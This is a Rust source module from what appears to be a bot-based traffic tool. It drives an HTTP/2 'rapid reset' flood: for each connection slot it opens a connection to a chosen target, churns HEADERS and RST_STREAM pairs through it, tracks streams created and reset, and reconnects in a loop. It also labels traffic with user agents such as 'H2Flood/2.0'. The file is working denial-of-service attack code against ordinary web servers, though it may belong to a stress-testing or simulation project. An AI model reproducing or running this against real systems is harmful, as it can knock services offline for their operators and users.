//! Protocol-level rapid reset: one loop per connection slot, each opening a
//! fresh HTTP/2 connection, churning HEADERS + RST_STREAM pairs through it,
//! then reconnecting.

use super::{pause, Bot};
use crate::engine::profile::StreamIntensity;
use crate::engine::stream::ResetConnection;
use crate::events::Event;
use rand::rngs::StdRng;
use rand::seq::SliceRandom;
use std::sync::Arc;
use std::time::Duration;
use tokio::time::Instant;
use tokio_util::sync::CancellationToken;
use tracing::{debug, info};

const IO_TIMEOUT: Duration = Duration::from_secs(5);
const RECONNECT_BACKOFF: Duration = Duration::from_secs(1);
const CYCLE_PAUSE: Duration = Duration::from_millis(100);
const PROGRESS_EVERY: u64 = 100;

const ATTACK_USER_AGENTS: &[&str] = &["RapidReset/1.0", "H2Flood/2.0", "StreamChurn/1.0"];

pub(crate) async fn run_connection(bot: Arc<Bot>, intensity: StreamIntensity, stop: CancellationToken, mut rng: StdRng) {
    let started = Instant::now();
    let mut created = 0u64;

    while !stop.is_cancelled() {
        let Some(target) = bot.targets().choose(&mut rng).cloned() else {
            return;
        };
        let user_agent = ATTACK_USER_AGENTS.choose(&mut rng).copied();

        let mut conn = match ResetConnection::connect(&target, IO_TIMEOUT).await {
            Ok(c) => c,
            Err(e) => {
                bot.record_error(None, None, "connect", e.to_string());
                if !pause(&stop, RECONNECT_BACKOFF).await {
                    break;
                }
                continue;
            }
        };
        info!(bot = %bot.id(), target = %target.name(), intensity = %intensity, "Rapid reset connection open");

        let ctx = bot.context();
        let result = conn
            .run_streams(
                intensity.streams_per_connection(),
                intensity.reset_delay(),
                user_agent,
                &stop,
                |_| {
                    created += 1;
                    bot.record_sent();
                    bot.record_reset();
                    if created % PROGRESS_EVERY == 0 {
                        ctx.events.emit(Event::StreamProgress {
                            bot_id: bot.id().to_string(),
                            target: target.name().to_string(),
                            intensity: intensity.to_string(),
                            streams_created: created,
                            streams_reset: created,
                            attack_duration: started.elapsed().as_secs_f64(),
                        });
                    }
                },
            )
            .await;

        let server_resets = conn.server_resets();
        let last_id = conn.last_stream_id();
        let ended_early = conn.is_closed();
        conn.close().await;

        match result {
            Ok(n) => debug!(
                bot = %bot.id(),
                streams = n,
                last_stream_id = last_id,
                server_resets,
                "Rapid reset connection cycle done"
            ),
            Err(e) => bot.record_error(None, None, "stream", e.to_string()),
        }

        let wait = if ended_early { RECONNECT_BACKOFF } else { CYCLE_PAUSE };
        if !pause(&stop, wait).await {
            break;
        }
    }
}
